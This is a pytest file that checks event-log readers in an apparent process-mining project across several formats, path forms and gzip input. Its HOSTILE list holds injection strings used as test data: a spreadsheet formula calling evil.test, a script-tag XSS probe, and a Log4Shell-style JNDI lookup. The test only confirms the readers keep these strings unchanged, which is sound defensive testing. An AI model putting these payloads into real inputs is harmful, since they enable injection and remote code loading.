"""Checks every reader must pass, run over one sample file per format."""

from __future__ import annotations

import gzip
import json
import shutil
from pathlib import Path

import pandas as pd
import pytest

from discover.readers import FORMATS, read_events
from models import ACTIONS, EVENT_COLUMNS, sort_events

DATA = Path(__file__).resolve().parents[2] / "data" / "readers"
SAMPLES = {
    "session.jsonl": "jsonl",
    "session.csv": "csv",
    "sr_raw.csv": "action_logger",
    "rt_raw.csv": "action_logger",
    "sr_segmented.csv": "action_logger",
    "l2_slice.csv": "action_logger",
    "tf03_slice.csv": "action_logger",
    "cpn_log9_slice.csv": "cpn_csv",
    "cpn_log1_slice.xes": "xes",
    "tockler_sample.csv": "tockler",
    "smartrpa_travel.csv": "smartrpa",
    "activitywatch_export.json": "activitywatch",
}


def test_every_format_but_the_mapped_one_has_a_sample():
    assert set(SAMPLES.values()) == set(FORMATS) - {"mapped_csv"}


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_reader_output_follows_the_event_table_contract(name):
    result = read_events(DATA / name)
    events = result.events
    assert result.formats == {str(DATA / name): SAMPLES[name]}
    assert result.errors == ()
    assert list(events.columns) == list(EVENT_COLUMNS)
    assert str(events["ts"].dtype) == "datetime64[ns, UTC]"
    assert events["event_id"].is_unique
    assert len(events) == result.n_lines > 0
    assert set(events["action"]) <= set(ACTIONS)
    assert (events["user"].astype(str) != "").all()
    assert (events["app"].astype(str) != "").all()
    assert (events["line"] > 0).all()
    assert (events["source"] == str(DATA / name)).all()
    made_up = events["event_id"] != name + ":" + events["line"].astype(str)
    assert events.loc[made_up, "event_id"].tolist() in ([], ["custom-7"])
    pd.testing.assert_frame_equal(events, sort_events(events))
    if result.truth is not None:
        assert list(result.truth.columns) == ["event_id", "routine", "instance"]
        assert result.truth["event_id"].tolist() == events["event_id"].tolist()


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_reader_output_is_identical_across_reads_and_path_forms(name, tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    shutil.copy(DATA / name, folder / name)
    by_file = read_events(folder / name)
    by_folder = read_events(folder)
    by_glob = read_events(str(folder / "*"))
    again = read_events(folder / name)
    pd.testing.assert_frame_equal(by_file.events, again.events)
    for other in (by_folder, by_glob):
        assert other.events["event_id"].tolist() == by_file.events["event_id"].tolist()
        assert other.events["ts"].tolist() == by_file.events["ts"].tolist()


HOSTILE = [
    '=HYPERLINK("http://evil.test","x")',
    "<script>alert(1)</script>",
    'two\nlines; "quoted", and, commas',
    "${jndi:ldap://evil.test/a}",
    "名前\u200b\u202eRTL",
]


def test_readers_keep_hostile_text_byte_for_byte(tmp_path):
    jsonl = tmp_path / "h.jsonl"
    jsonl.write_text(
        "".join(
            json.dumps(
                {
                    "ts": f"2026-03-02T09:00:0{i}Z",
                    "user": "u1",
                    "app": "Chrome",
                    "action": "type",
                    "target": {"label": text},
                    "value": text,
                }
            )
            + "\n"
            for i, text in enumerate(HOSTILE)
        ),
        encoding="utf-8",
    )
    csv = tmp_path / "h.csv"
    quoted = ['"' + t.replace('"', '""') + '"' for t in HOSTILE]
    csv.write_text(
        "ts,user,app,action,target_label,value\n"
        + "".join(
            f"2026-03-02T09:00:0{i}Z,u1,Chrome,type,{q},{q}\n"
            for i, q in enumerate(quoted)
        ),
        encoding="utf-8",
    )
    for path in (jsonl, csv):
        events = read_events(path).events
        assert events["value"].tolist() == HOSTILE, path.name
        assert events["target_label"].tolist() == HOSTILE, path.name


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_readers_read_gzip_compressed_files_by_content(name, tmp_path):
    packed = tmp_path / f"{name}.gz"
    packed.write_bytes(gzip.compress((DATA / name).read_bytes(), mtime=0))
    plain = read_events(DATA / name)
    unpacked = read_events(packed)
    assert unpacked.formats == {str(packed): SAMPLES[name]}
    expected_ids = plain.events["event_id"].str.replace(name, f"{name}.gz", n=1)
    custom = plain.events["event_id"] == "custom-7"
    expected_ids[custom] = "custom-7"
    assert unpacked.events["event_id"].tolist() == expected_ids.tolist()
    same = [c for c in EVENT_COLUMNS if c not in ("event_id", "source", "session")]
    pd.testing.assert_frame_equal(unpacked.events[same], plain.events[same])
